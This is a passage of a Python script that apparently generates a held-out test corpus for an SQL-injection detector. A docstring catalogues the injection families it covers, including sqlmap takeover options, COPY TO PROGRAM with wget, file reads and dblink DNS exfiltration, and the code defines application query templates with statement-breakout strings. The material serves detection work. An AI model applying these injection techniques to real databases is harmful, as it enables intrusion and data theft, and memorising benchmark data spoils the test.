#!/usr/bin/env python3
"""Generator for the thirteenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_thirteenth.py [OUTPUT]      # default: thirteenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (as in
make_ninth.py to make_twelfth.py); rows whose text occurs in any earlier
corpus (dev to twelfth) are skipped.  Written for generalization, so the
templates, payload lists and benign generators are new for this file:

* 67 application templates (`t13_<stack>_*`) on tables that none of the
  earlier corpora use (a chocolate factory, an onsen bathhouse, a kite
  festival, a taxidermy studio, a sumo stable, a hedge maze, a cider press,
  a blacksmith's forge, a model-railway club, a quilting guild, a snail
  farm, a dragon-boat club, a crossword publisher, a circus, a typewriter
  repair shop), each the SQL text one stack sends after splicing a request
  parameter into it: psycopg and asyncpg with f-strings / str.format,
  SQLAlchemy text(), Peewee SQL(), MyBatis `${}`, jOOQ plain SQL, Dapper
  interpolated strings, Ruby Sequel literals, Perl DBI interpolation, Slick
  `#$` splices, Kotlin Exposed exec(), Clojure next.jdbc, Go database/sql
  with fmt.Sprintf, node-postgres template literals and R DBI paste0().
  The shapes are ones earlier templates used rarely: multi-row VALUES,
  INSERT ... ON CONFLICT ... DO UPDATE ... WHERE, UPDATE ... RETURNING
  expressions (age(), division by nullif()), DELETE ... RETURNING,
  data-modifying CTEs feeding INSERT/SELECT, window aggregates with FILTER,
  GROUP BY ROLLUP, LATERAL jsonb_to_recordset and unnest(...) WITH
  ORDINALITY, ARRAY[] / jsonb_build_object / jsonb_agg constructors, CASE in
  ORDER BY, string_agg / array_agg with ORDER BY, COALESCE/NULLIF chains,
  date_bin / date_trunc / age, percentile_cont WITHIN GROUP, a generated
  column added by ALTER TABLE, COMMENT ON, CREATE INDEX CONCURRENTLY,
  EXPLAIN (ANALYZE false ...), EXECUTE of a prepared statement with
  arguments, DECLARE ... CURSOR WITH HOLD, FETCH and MOVE, and CALL.  The
  input lands in quoted strings, numbers (also a window-frame offset and
  the FETCH/MOVE count), IN lists and ARRAY[] lists, identifiers (a column
  name, part of an index name), ORDER BY columns and directions,
  LIMIT/OFFSET, interval strings, date_trunc units, JSON documents cast to
  jsonb, `'{...}'` array literals, LIKE / ILIKE patterns (whole or inside
  `%...%`), `~` / `~*` regexes, jsonb `->` / `?` keys, an E'' note and a
  `$memo$` dollar-quoted body.  For slots inside a data-modifying CTE, a
  cursor statement or an identifier, a breakout closes the statement the
  way an attacker would (`) SELECT 1`, ` FROM wagon_cursor`, ` numeric`);
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload tests (boolean_blind, time_blind,
  error_based, inline_query, stacked_queries, union_query: WHERE/HAVING,
  the generic and PostgreSQL parameter-replace forms (CASE, original value,
  GENERATE_SERIES), ORDER BY/GROUP BY, CAST, heavy-query and Glibc tests),
  detection inferences and enumeration inferences for --banner,
  --current-user, --current-db, --hostname, --is-dba, --users,
  --passwords, --privileges, --dbs, --tables, --columns, --count, --dump,
  --search and --sql-query (bisection values, length digits, validation
  `!=`, CHR()-escaped strings, `qxxxq` markers), in its boundaries (quote and
  bracket prefixes, `AND 'x'='x` / `AND 'x' LIKE 'x` / `AND '%'='` /
  `AND (n=n` suffixes, `-- Rand` comments, negative values for OR tests) --
  mostly ones that fit the slot, sometimes not --, the takeover statements
  of --os-shell, --os-cmd, --file-read, --file-write, --udf-inject and
  --priv-esc, a few other back-ends' tests (MySQL, SQL Server, Oracle,
  SQLite), and for about one request in ten a tamper script (randomcase,
  space2comment, space2randomblank, space2dash, space2plus, between,
  equaltolike, substring2leftright, unionalltounion,
  commentbeforeparentheses).  The hand families are PostgreSQL techniques
  written for this file: tautologies through nested CASE and COALESCE/
  NULLIF wrappers, casts to int8/int2/char, intervals, points, ranges,
  collations, tsvector matches, overlay(), regexp_match(), to_char(),
  jsonb_typeof(), U&'' and dollar-tagged literals, plus open forms the
  template's own quote closes; UNION arms (parenthesized, `UNION VALUES`,
  `UNION TABLE pg_authid`) over pg_db_role_setting, pg_stat_statements,
  pg_config, pg_replication_slots, pg_policies, pg_foreign_server,
  pg_ident_file_mappings, pg_stat_wal_receiver, pg_proc sources and more;
  stacked CREATE/ALTER ROLE and USER with many options, GRANT of
  pg_execute_server_program, RLS and policy removal, user mappings,
  shared_preload_libraries / LOAD, CREATE CAST, MERGE, PREPARE
  TRANSACTION, cursors over pg_authid; inference by regexp_match, overlay,
  position, to_number, get_bit, split_part, translate, width_bucket,
  to_char and sha256; pg_sleep inside nested CASE, COALESCE chains, CTEs,
  VALUES, LATERAL, jsonb_build_array, with comments inside the call,
  pg_sleep_for / pg_sleep_until and md5 heavy queries; error leaks by casts
  to regtype, regnamespace, regconfig, pg_lsn, cidr, point, box, int2,
  float4, timestamptz, daterange, numeric(2,1), txid_snapshot, jsonpath,
  xmlparse(document), xpath, json, to_date/to_timestamp, make_interval and
  conditional errors (division by zero inside CASE, int4 overflow, a zero
  generate_series step); COPY TO/FROM PROGRAM (wget, nslookup, cron file),
  COPY FROM a file, file_fdw with program/filename, pg_read_file /
  pg_read_binary_file / pg_ls_dir / pg_ls_tmpdir / pg_stat_file, large
  objects (lo_import, lo_get, lo_from_bytea, lo_export, lowrite), dblink
  (dblink_connect_u, dblink_exec, dblink_open, DNS exfiltration), IMPORT
  FOREIGN SCHEMA, adminpack and restore_command; DO blocks with odd dollar
  tags ($_$, $Ω$, $tag_é$, $ж$, ...) running EXECUTE ... USING, chr()-built
  strings, FOR ... IN EXECUTE, format(%I, %L), GET DIAGNOSTICS, hex-decoded
  commands, WHILE loops and LANGUAGE after the body, SECURITY DEFINER
  functions, procedures with CALL, event triggers, plpython3u, pltclu and
  plv8; nested dollar tags; E'' with \\x, short octal and \\U escapes, U&''
  with custom UESCAPE characters and U&"" table names; and `'||...||'`
  splices of overlay(), regexp_replace(), xmlelement(), jsonb_object_agg(),
  format(%I), encode(), quote_literal() and friends.  Breakouts close the
  slot's quote and brackets and end with `--` variants, `;--`, `/*` or `#`
  (habits from other back-ends).  Obfuscation rows reshape payloads outside
  their literals: tabs, newlines, CR, form feeds and now and then a
  vertical tab (which PostgreSQL 15 does not take as whitespace), random,
  alternating and last-letter case, no spaces (parentheses and quoted
  identifiers instead), `/**/`, `/*!*/`, `/*--*/`, `/*word*/`, nested and
  `--x\\n` comments in place of spaces and inside function-call brackets;
* benign rows from new input pools (names with apostrophes, SQL words,
  URLs and e-mails, JSON, long text, Unicode, whitespace, numbers as
  strings, typed values for the typed slots, identifiers), new complex
  generators (`cx13_*`: SQLAlchemy, Hibernate 6, Ecto, ActiveRecord, Django,
  GORM and Exposed output; bound jOOQ, Kysely, squirrel, SQLAlchemy core,
  knex and sea-query statements; data-modifying CTE chains, FILTER windows,
  ROLLUP/CUBE/GROUPING SETS, recursive CTEs, LATERAL top-n; set-operation
  reports; date, string, JSON, array and math built-ins; sqlcommenter,
  pg_hint_plan and inline comments; generated columns, Flyway and Alembic
  bookkeeping, enum and constraint migrations, partitions, COMMENT ON;
  batch inserts by VALUES, unnest() and upserts; VACUUM/REINDEX/EXPLAIN;
  cursors, savepoints and prepared statements; COPY; catalog
  introspection; PL/pgSQL bodies; full-text and trigram search) and
  regression-test-style statements (`regress13:<file>.sql`: MERGE, ON
  CONFLICT, SEARCH/CYCLE, FILTER windows, grouping sets, ROWS FROM,
  XMLTABLE, jsonpath, portals, prepared statements, procedures with BEGIN
  ATOMIC, policies, typed literals and more).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes into a
standard string, quote doubling only into E'').

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
runs): every benign row parses; 1,067 of the 1,316 attacks parse and 249 do
not (138 are sqlmap requests whose boundary does not fit the slot -- a
condition after COMMENT ON, CALL, EXECUTE or a closed VALUES row, the wrong
number of brackets, an expression as a FETCH count --; 29 more are tampered,
12 of them by space2plus; 27 end in MySQL's `#` and 20 in an unterminated
`/*`; 9 are other back-ends' vectors; 6 carry a vertical tab; 20 others
break out of a CASE expression, a data-modifying CTE, a FETCH/MOVE count or
a COMMENT ON literal without closing it properly, clash nested dollar tags,
or are one mis-escaped E'' bypass). There is no `parses` field, as in the
seventh to twelfth corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SQLMAP_FINGERPRINT, SlotCorpus, addslashes, bisection, by_template, chrs, closers, dollar_safe, double_quotes,  # noqa: E402
                        identifier_input, kind, load_earlier, marked, nulls, number_input, q, quoted_ident_breakout, randnum, rdate,
                        registry, regress_list, render, rstr, rts as ts, rword, sqlmap_delays, strip_andor, text_input, typed_input,
                        union_request, without_spaces)
import corpus_kit  # noqa: E402
from functools import partial  # noqa: E402

SEED = 13131313
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth")
PG = "PostgreSQL"

# ---------------------------------------------------------------- application templates
# Each template is the statement one stack sends after splicing request
# parameters into its SQL text (the stack is the second part of the name).
# Slot types: q '...', e E'...', d $memo$...$memo$, qi "...", n number, list
# (numbers joined with commas), col (ORDER BY column or expression list), dir
# (ASC/DESC), ident (bare identifier or part of one).  A third element
# "typed:KIND" says the literal is read as a value of that kind (date, ts,
# interval, json, regex, like, arr, unit): benign fills are values of that
# kind only.  A fourth element overrides what closes the slot for a breakout.
T = [
 # chocolate factory -- Python psycopg with f-strings
 ("t13_psycopg_cacao_lots", "INSERT INTO cacao_bean_lots (lot_code, origin, fermentation_days, received_on) VALUES ('{a}', '{b}', {c}, current_date), ('RESERVE-00', 'Trinitario blend', 6, current_date) ON CONFLICT (lot_code) DO NOTHING",
  {"a": ("q", ["GH-ASH-2291", "EC-ARR-0417"]), "b": ("q", ["Ashanti, Ghana", "Esmeraldas, Ecuador"]), "c": ("n", ["6", "7"])}),
 ("t13_psycopg_conche_upsert", "INSERT INTO conche_runs AS cr (batch_no, hours, temp_c) VALUES ({a}, {b}, {c}) ON CONFLICT (batch_no) DO UPDATE SET hours = EXCLUDED.hours, temp_c = EXCLUDED.temp_c WHERE cr.locked IS NOT TRUE AND cr.operator = '{d}'",
  {"a": ("n", ["8812", "913"]), "b": ("n", ["72", "48.5"]), "c": ("n", ["58", "61"]), "d": ("q", ["a.mensah", "night shift"])}),
 ("t13_psycopg_temper_curve", "SELECT batch_no, avg(temp_c) FILTER (WHERE phase = '{a}') OVER (PARTITION BY batch_no ORDER BY read_at ROWS BETWEEN {b} PRECEDING AND CURRENT ROW) AS smooth FROM tempering_readings WHERE read_at >= now() - interval '{c}' ORDER BY batch_no, read_at",
  {"a": ("q", ["seed", "cooling"]), "b": ("n", ["5", "12"]), "c": ("q", ["2 hours", "1 day"], "typed:interval")}),
 ("t13_psycopg_bar_wrappers", "SELECT sku, string_agg(DISTINCT wrapper_colour, ', ' ORDER BY wrapper_colour) AS colours FROM bar_wrappers WHERE sku LIKE '{a}%' GROUP BY ROLLUP (sku) ORDER BY {b} NULLS LAST",
  {"a": ("q", ["DK70-", "MILK"]), "b": ("col", ["sku", "colours DESC", "2"])}),
 # onsen bathhouse -- Python asyncpg, query text built with str.format
 ("t13_asyncpg_bath_temps", "SELECT pool_name, date_bin('{a}', measured_at, TIMESTAMP '2024-01-01') AS bucket, max(temp_c) AS hottest FROM onsen_bath_temps WHERE pool_name = ANY('{{b}}'::text[]) GROUP BY 1, 2 ORDER BY bucket DESC LIMIT {c}",
  {"a": ("q", ["15 minutes", "1 hour"], "typed:interval"), "b": ("q", ["rotenburo,kama-buro", "utase"], "typed:arr"), "c": ("n", ["96", "24"])}),
 ("t13_asyncpg_towel_return", "UPDATE towel_rentals SET returned_at = now(), late_fee = GREATEST(0, extract(epoch FROM now() - rented_at) / 3600 - {a}) * 150 WHERE locker_no = {b} AND returned_at IS NULL RETURNING rental_id, late_fee, age(now(), rented_at) AS held_for",
  {"a": ("n", ["3", "4.5"]), "b": ("n", ["117", "42"])}),
 ("t13_asyncpg_guest_notes", "COMMENT ON COLUMN onsen_guests.allergy_note IS '{a}'",
  {"a": ("q", ["free text from the front desk", "reviewed by the duty manager"])}),
 ("t13_asyncpg_bath_visits", "DELETE FROM bath_visit_log WHERE visited_at < now() - interval '{a}' AND pool_name = '{b}' RETURNING visit_id, guest_id",
  {"a": ("q", ["90 days", "2 years"], "typed:interval"), "b": ("q", ["rotenburo", "mist sauna"])}),
 # kite festival -- SQLAlchemy text() with f-strings
 ("t13_sqla_kite_entries", "WITH moved AS (UPDATE kite_entries SET heat_no = {a} WHERE entry_id IN ({b}) RETURNING entry_id, pilot_name) INSERT INTO kite_heat_audit (entry_id, pilot_name, note) SELECT entry_id, pilot_name, '{c}' FROM moved",
  {"a": ("n", ["3", "11"], "", ") SELECT 1"), "b": ("list", ["204, 207, 311", "58"], "", ")) SELECT 1"), "c": ("q", ["moved after the wind shift", "judge request"])}),
 ("t13_sqla_line_tension", "SELECT kite_id, percentile_cont(0.9) WITHIN GROUP (ORDER BY tension_n) AS p90 FROM line_tension_samples WHERE gust_kt BETWEEN {a} AND {b} GROUP BY kite_id HAVING count(*) > {c}",
  {"a": ("n", ["8", "12"]), "b": ("n", ["25", "18"]), "c": ("n", ["30", "5"])}),
 ("t13_sqla_kite_specs", "SELECT k.kite_id, s.panel, s.colour FROM kites k CROSS JOIN LATERAL jsonb_to_recordset(k.panels) AS s(panel int, colour text) WHERE k.maker = '{a}' AND s.colour ~* '{b}'",
  {"a": ("q", ["Peter Lynn", "HQ Kites"]), "b": ("q", ["^(red|orange)", "blue$"], "typed:regex")}),
 ("t13_sqla_flight_order", "SELECT flight_id, pilot_name, max_altitude_m FROM kite_flights WHERE festival_day = '{a}'::date ORDER BY CASE WHEN category = '{b}' THEN 0 ELSE 1 END, {c} {d}",
  {"a": ("q", ["2025-08-16", "2024-08-17"], "typed:date"), "b": ("q", ["rokkaku fighting", "single line"]), "c": ("col", ["max_altitude_m", "pilot_name", "flight_id"]), "d": ("dir", ["DESC", "ASC"])}),
 # taxidermy studio -- Java MyBatis ${} substitution
 ("t13_mybatis_mount_search", "SELECT mount_id, species, pose FROM taxidermy_mounts WHERE species ILIKE '%{a}%' AND client_id = {b} ORDER BY {c}",
  {"a": ("q", ["red fox", "pheasant"]), "b": ("n", ["4410", "87"]), "c": ("col", ["mount_id", "species, pose", "received_on DESC"])}),
 ("t13_mybatis_hide_tanning", "SELECT batch_id, COALESCE(NULLIF(tannin_type, ''), NULLIF(legacy_tannin, ''), 'unknown') AS tannin, date_trunc('{a}', started_at) AS period FROM hide_tanning_batches WHERE started_at >= '{b}' ORDER BY 3 DESC LIMIT {c}",
  {"a": ("q", ["week", "month"], "typed:unit"), "b": ("q", ["2025-01-01", "2024-10-15"], "typed:date"), "c": ("n", ["50", "10"])}),
 ("t13_mybatis_permit_check", "EXECUTE check_cites_permit('{a}', {b})",
  {"a": ("q", ["CITES-DE-2025-0093", "EU-IMP-77821"]), "b": ("n", ["2025", "2024"])}),
 ("t13_mybatis_mount_quote", "UPDATE mount_quotes SET quote_cents = quote_cents * {a}, notes = notes || E'\\n{b}' WHERE quote_id = {c} RETURNING quote_id, quote_cents / 100.0 AS quote_eur",
  {"a": ("n", ["1.1", "0.95"]), "b": ("e", ["glass eyes ordered", "client wants a habitat base"]), "c": ("n", ["3301", "77"])}),
 # sumo stable -- jOOQ plain SQL strings
 ("t13_jooq_rikishi_weights", "select r.shikona, w.weighed_on, w.kg - lag(w.kg) over (partition by r.id order by w.weighed_on) as delta from rikishi r join rikishi_weights w on w.rikishi_id = r.id where r.heya = '{a}' order by {b} limit {c} offset {d}",
  {"a": ("q", ["Isegahama", "Sadogatake"]), "b": ("col", ["w.weighed_on desc", "r.shikona", "delta"]), "c": ("n", ["20", "100"]), "d": ("n", ["0", "40"])}),
 ("t13_jooq_bout_results", "select basho, count(*) filter (where kimarite = '{a}') as wins_by_move, count(*) as bouts from bout_results where winner_id = {b} group by rollup (basho) order by basho nulls first",
  {"a": ("q", ["yorikiri", "oshidashi"]), "b": ("n", ["1123", "58"])}),
 ("t13_jooq_banzuke", "select division_id, rank_no, array_agg(shikona order by rank_no, side) as names from banzuke_entries where basho = '{a}' and division_id in ({b}) group by division_id, rank_no",
  {"a": ("q", ["2025.05", "2024.11"]), "b": ("list", ["1, 2", "3"])}),
 ("t13_jooq_keiko_cursor", "DECLARE keiko_cur CURSOR WITH HOLD FOR SELECT session_id, rikishi_id, bouts_won FROM keiko_sessions WHERE session_date >= '{a}' ORDER BY {b}",
  {"a": ("q", ["2025-05-01", "2024-12-20"], "typed:date"), "b": ("col", ["session_date", "bouts_won DESC", "rikishi_id, session_date"])}),
 # hedge maze -- .NET Dapper with interpolated strings
 ("t13_dapper_maze_visits", "SELECT v.\"TicketId\", v.\"EnteredAt\", v.\"ExitedAt\" - v.\"EnteredAt\" AS \"Duration\" FROM \"MazeVisits\" v WHERE v.\"MazeId\" = {a} AND v.\"ExitedAt\" IS NOT NULL ORDER BY v.\"{b}\" {c} LIMIT {d}",
  {"a": ("n", ["2", "7"]), "b": ("qi", ["EnteredAt", "TicketId"]), "c": ("dir", ["DESC", "ASC"]), "d": ("n", ["25", "100"])}),
 ("t13_dapper_hedge_trims", "INSERT INTO \"HedgeTrims\" (\"Section\", \"TrimmedOn\", \"Gardener\", \"HeightCm\") VALUES ('{a}', '{b}'::date, '{c}', {d}), ('CENTRE', current_date, 'rota', 220)",
  {"a": ("q", ["NW-04", "Minotaur gate"]), "b": ("q", ["2025-06-02", "2024-09-30"], "typed:date"), "c": ("q", ["Morag", "the apprentices"]), "d": ("n", ["185", "210"])}),
 ("t13_dapper_riddle_stations", "SELECT \"StationNo\", \"Riddle\" FROM \"RiddleStations\" WHERE \"Riddle\" ~ '{a}' AND \"Language\" = '{b}'",
  {"a": ("q", ["\\mecho\\M", "^What has"], "typed:regex"), "b": ("q", ["en", "cy"])}),
 ("t13_dapper_lost_child", "CALL maze_log_lost_child('{a}', {b}, '{c}'::interval)",
  {"a": ("q", ["boy, 6, green raincoat", "girl aged 9 with a dog"]), "b": ("n", ["12", "3"]), "c": ("q", ["10 minutes", "25 min"], "typed:interval")}),
 # cider press -- Ruby Sequel literal strings
 ("t13_sequel_pressings", "SELECT variety, sum(juice_litres) AS litres, round(avg(brix), 1) AS brix FROM cider_pressings WHERE pressed_on >= date_trunc('year', now()) - interval '{a}' AND orchard = '{b}' GROUP BY ROLLUP (variety) ORDER BY litres DESC NULLS LAST",
  {"a": ("q", ["1 year", "6 mons"], "typed:interval"), "b": ("q", ["Long Ashton", "Kingston Black row"])}),
 ("t13_sequel_apple_varieties", "SELECT v.name, o.note, o.n FROM apple_varieties v, unnest(v.tasting_notes) WITH ORDINALITY AS o(note, n) WHERE v.name = '{a}' AND o.note LIKE '{b}%'",
  {"a": ("q", ["Yarlington Mill", "Dabinett"]), "b": ("q", ["bitter", "spic"])}),
 ("t13_sequel_barrel_rack", "UPDATE cider_barrels SET racked_at = now(), sg_reading = {a}, tasting = jsonb_build_object('nose', '{b}', 'score', {c}) WHERE barrel_no = {d} RETURNING barrel_no, sg_reading, tasting",
  {"a": ("n", ["1.004", "0.998"]), "b": ("q", ["leather and baked apple", "sharp"]), "c": ("n", ["7", "9"]), "d": ("n", ["14", "202"])}),
 ("t13_sequel_orchard_json", "SELECT orchard, trees FROM orchard_blocks WHERE meta @> '{a}'::jsonb ORDER BY orchard",
  {"a": ("q", ["{\"rootstock\": \"MM106\"}", "{\"organic\": true}"], "typed:json")}),
 # blacksmith forge -- Perl DBI with string interpolation
 ("t13_dbi_forge_orders", "SELECT order_id, item, coalesce(due_on, promised_on, placed_on + 14) AS due FROM forge_orders WHERE customer = '{a}' AND status <> 'collected' ORDER BY {b} {c}",
  {"a": ("q", ["Hartley Farm", "R. Okafor"]), "b": ("col", ["due", "order_id", "item"]), "c": ("dir", ["ASC", "DESC"])}),
 ("t13_dbi_steel_stock", "INSERT INTO steel_stock (grade, profile, length_mm, qty) VALUES ('{a}', '{b}', {c}, {d}) ON CONFLICT (grade, profile, length_mm) DO UPDATE SET qty = steel_stock.qty + EXCLUDED.qty WHERE steel_stock.discontinued = false",
  {"a": ("q", ["EN8", "1095"]), "b": ("q", ["25x6 flat", "16 round"]), "c": ("n", ["3000", "1200"]), "d": ("n", ["4", "10"])}),
 ("t13_dbi_quench_log", "SELECT log_id, medium, quench_temp_c FROM quench_log WHERE medium = '{a}' AND logged_at > now() - '{b}'::interval LIMIT {c}",
  {"a": ("q", ["canola oil", "brine"]), "b": ("q", ["7 days", "12 hours"], "typed:interval"), "c": ("n", ["30", "200"])}),
 ("t13_dbi_anvil_notes", "UPDATE anvils SET notes = $memo${a}$memo$, updated_at = now() WHERE anvil_id = {b}",
  {"a": ("d", ["horn chipped; dress it before the course", "Peter Wright 1.5 cwt"]), "b": ("n", ["3", "11"])}),
 # model railway club -- Scala Slick sql"..." with #$ splices
 ("t13_slick_layout_sessions", "SELECT session_id, layout, operators FROM layout_sessions WHERE layout = '{a}' AND started_at::date = '{b}' ORDER BY started_at",
  {"a": ("q", ["Ashburton Junction", "Dock Street (N gauge)"]), "b": ("q", ["2025-03-08", "2024-11-23"], "typed:date")}),
 ("t13_slick_loco_roster", "SELECT loco_no, livery, dcc_address FROM loco_roster WHERE dcc_address IN ({a}) ORDER BY {b}",
  {"a": ("list", ["3, 47, 1012", "66"]), "b": ("col", ["loco_no", "livery, loco_no", "dcc_address DESC"])}),
 ("t13_slick_timetable_explain", "EXPLAIN (ANALYZE false, COSTS true, FORMAT json) SELECT * FROM layout_timetable WHERE station = '{a}' AND dep_minute BETWEEN {b} AND {c}",
  {"a": ("q", ["Coombe Halt", "Fiddle Yard"]), "b": ("n", ["0", "30"]), "c": ("n", ["59", "90"])}),
 ("t13_slick_fetch_wagons", "FETCH FORWARD {a} FROM wagon_cursor",
  {"a": ("n", ["50", "10"], "", " FROM wagon_cursor")}),
 # quilting guild -- Kotlin Exposed exec() with string templates
 ("t13_exposed_quilt_blocks", "SELECT block_id, pattern, width_cm * height_cm AS area FROM quilt_blocks WHERE pattern = '{a}' AND fabric_ids && ARRAY[{b}]::int[]",
  {"a": ("q", ["Log Cabin", "Flying Geese"]), "b": ("list", ["12, 19", "7"])}),
 ("t13_exposed_swatch_tags", "SELECT swatch_id, tags FROM fabric_swatches WHERE tags @> '{{a}}' AND colour_hex ILIKE '{b}%'",
  {"a": ("q", ["batik,cotton", "flannel"], "typed:arr"), "b": ("q", ["#a0", "#ff"])}),
 ("t13_exposed_show_entries", "WITH entered AS (INSERT INTO quilt_show_entries (quilt_id, category, entered_by) VALUES ({a}, '{b}', '{c}') RETURNING entry_id, category) SELECT e.entry_id, count(*) OVER (PARTITION BY e.category) FROM entered e",
  {"a": ("n", ["881", "12"], "", ")) SELECT 1"), "b": ("q", ["art quilt", "traditional pieced"], "", ")) SELECT 1"), "c": ("q", ["Bev Okonkwo", "Ruth"], "", ")) SELECT 1")}),
 ("t13_exposed_guild_index", "CREATE INDEX CONCURRENTLY IF NOT EXISTS quilt_blocks_{a}_idx ON quilt_blocks ({b})",
  {"a": ("ident", ["pattern", "maker"], "", "_idx ON quilt_blocks (pattern)"), "b": ("col", ["pattern", "maker_id, pattern", "lower(pattern)"])}),
 # snail farm -- Clojure next.jdbc with str
 ("t13_nextjdbc_snail_pens", "SELECT pen_id, humidity_pct, snail_count FROM heliciculture_pens WHERE humidity_pct < {a} AND species = '{b}' ORDER BY humidity_pct LIMIT {c}",
  {"a": ("n", ["80", "72.5"]), "b": ("q", ["Helix aspersa maxima", "Cornu aspersum"]), "c": ("n", ["10", "40"])}),
 ("t13_nextjdbc_caviar_jars", "DELETE FROM snail_caviar_jars WHERE best_before < '{a}'::date AND batch_code LIKE '{b}' RETURNING jar_id, batch_code",
  {"a": ("q", ["2025-07-01", "2024-12-31"], "typed:date"), "b": ("q", ["HX-2024-%", "CV__-B%"], "typed:like")}),
 ("t13_nextjdbc_feed_plan", "SELECT plan_id, feed_mix -> '{a}' AS share FROM snail_feed_plan WHERE plan_id = {b} AND feed_mix ? '{a}'",
  {"a": ("q", ["calcium", "oat bran"]), "b": ("n", ["5", "19"])}),
 ("t13_nextjdbc_mucus_batch", "UPDATE mucus_extraction_batches SET yield_ml = {a}, extracted_by = '{b}', extracted_at = now() WHERE batch_id = {c} AND extracted_at IS NULL RETURNING batch_id, yield_ml * 1.0 / nullif(snail_count, 0) AS ml_per_snail",
  {"a": ("n", ["340", "125.5"]), "b": ("q", ["lab tech 2", "Inès"]), "c": ("n", ["77", "1204"])}),
 # dragon-boat club -- Go database/sql with fmt.Sprintf
 ("t13_gosql_crew_seats", "SELECT paddler_id, seat_no, side FROM crew_seating WHERE boat_id = {a} AND race_id = {b} ORDER BY seat_no, CASE side WHEN '{c}' THEN 0 ELSE 1 END",
  {"a": ("n", ["4", "9"]), "b": ("n", ["310", "88"]), "c": ("q", ["left", "right"])}),
 ("t13_gosql_heat_times", "SELECT heat_no, crew, finish_ms, rank() OVER (PARTITION BY heat_no ORDER BY finish_ms) AS place FROM race_heat_times WHERE regatta = '{a}' AND finish_ms < {b} ORDER BY heat_no, place",
  {"a": ("q", ["Hong Kong Tuen Ng 2025", "Serpentine Sprint"]), "b": ("n", ["180000", "95000"])}),
 ("t13_gosql_paddler_prefs", "INSERT INTO paddler_profiles (paddler_id, prefs) VALUES ({a}, '{b}'::jsonb) ON CONFLICT (paddler_id) DO UPDATE SET prefs = paddler_profiles.prefs || EXCLUDED.prefs WHERE paddler_profiles.locked = false",
  {"a": ("n", ["512", "33"]), "b": ("q", ["{\"side\": \"left\"}", "{\"seat\": 4, \"drummer\": false}"], "typed:json")}),
 ("t13_gosql_regatta_gencol", "ALTER TABLE regatta_results ADD COLUMN IF NOT EXISTS {a} numeric GENERATED ALWAYS AS (finish_ms / 1000.0) STORED",
  {"a": ("ident", ["finish_s", "finish_seconds"], "", " numeric")}),
 # crossword publisher -- Node node-postgres with template literals
 ("t13_nodepg_clue_search", "SELECT clue_id, clue_text, answer_len FROM crossword_clues WHERE answer ~ '{a}' AND answer_len = {b} LIMIT {c}",
  {"a": ("q", ["^C.T$", "^[AEIOU]"], "typed:regex"), "b": ("n", ["3", "7"]), "c": ("n", ["25", "100"])}),
 ("t13_nodepg_grid_words", "SELECT g.puzzle_id, x.word, x.pos FROM puzzle_grids g CROSS JOIN LATERAL unnest(string_to_array(g.across_words, ',')) WITH ORDINALITY AS x(word, pos) WHERE g.setter = '{a}' ORDER BY x.pos",
  {"a": ("q", ["Araucaria", "Paul"])}),
 ("t13_nodepg_solver_times", "SELECT solver, date_trunc('week', solved_at) AS wk, min(seconds) FILTER (WHERE used_hints = 0) AS clean_best, percent_rank() OVER (ORDER BY min(seconds)) AS pr FROM solver_times WHERE puzzle_no BETWEEN {a} AND {b} GROUP BY solver, wk",
  {"a": ("n", ["29001", "100"]), "b": ("n", ["29100", "250"])}),
 ("t13_nodepg_setter_bio", "UPDATE crossword_setters SET pseudonym = '{a}', bio = E'{b}' WHERE setter_id = {c}",
  {"a": ("q", ["Enigmatist", "Vlad"]), "b": ("e", ["Sets on Tuesdays.", "Former chemist; loves anagrams"]), "c": ("n", ["14", "301"])}),
 # circus -- Python Peewee SQL() with % formatting
 ("t13_peewee_trapeze_rigs", "SELECT rig_id, load_rating_kg, last_inspected FROM trapeze_rigs WHERE age(now(), last_inspected) > interval '{a}' ORDER BY {b}",
  {"a": ("q", ["30 days", "6 months"], "typed:interval"), "b": ("col", ["last_inspected", "load_rating_kg DESC", "rig_id"])}),
 ("t13_peewee_act_lineup", "SELECT act_id, act_name, running_order FROM circus_acts WHERE show_id = {a} AND act_name NOT ILIKE '%{b}%' ORDER BY running_order LIMIT {c}",
  {"a": ("n", ["77", "5"]), "b": ("q", ["clown", "fire"]), "c": ("n", ["12", "30"])}),
 ("t13_peewee_juggling_props", "INSERT INTO juggling_props (prop_type, colour, qty) VALUES ('{a}', '{b}', {c}), ('club', 'white', 1), ('ring', 'neon', 2) RETURNING prop_id",
  {"a": ("q", ["diabolo", "contact ball"]), "b": ("q", ["glow", "matte black"]), "c": ("n", ["6", "12"])}),
 ("t13_peewee_tent_pitch", "CALL pitch_big_top({a}, '{b}', '{c}'::date)",
  {"a": ("n", ["2", "1"]), "b": ("q", ["Clapham Common", "Plaza de Toros lot C"]), "c": ("q", ["2025-04-11", "2024-07-01"], "typed:date")}),
 # typewriter repair -- R DBI with paste0()
 ("t13_rdbi_typewriter_jobs", "SELECT job_id, model, serial_no FROM typewriter_repairs WHERE model ILIKE '{a}' AND received_on >= '{b}' ORDER BY received_on DESC",
  {"a": ("q", ["Olivetti Lettera%", "%Hermes 3000%"], "typed:like"), "b": ("q", ["2025-02-01", "2024-06-15"], "typed:date")}),
 ("t13_rdbi_ribbon_stock", "SELECT ribbon_type, array_agg(DISTINCT spool_size ORDER BY spool_size) AS sizes, sum(qty) AS total FROM ribbon_stock WHERE ribbon_type IN ('{a}', '{b}') GROUP BY ribbon_type",
  {"a": ("q", ["black/red nylon", "silk"]), "b": ("q", ["correctable", "carbon film"])}),
 ("t13_rdbi_platen_history", "WITH done AS (DELETE FROM platen_queue WHERE job_id = {a} RETURNING job_id, durometer) INSERT INTO platen_history (job_id, durometer, finished_by) SELECT job_id, durometer, '{b}' FROM done",
  {"a": ("n", ["4021", "77"], "", ") SELECT 1"), "b": ("q", ["Ted", "bench 2"])}),
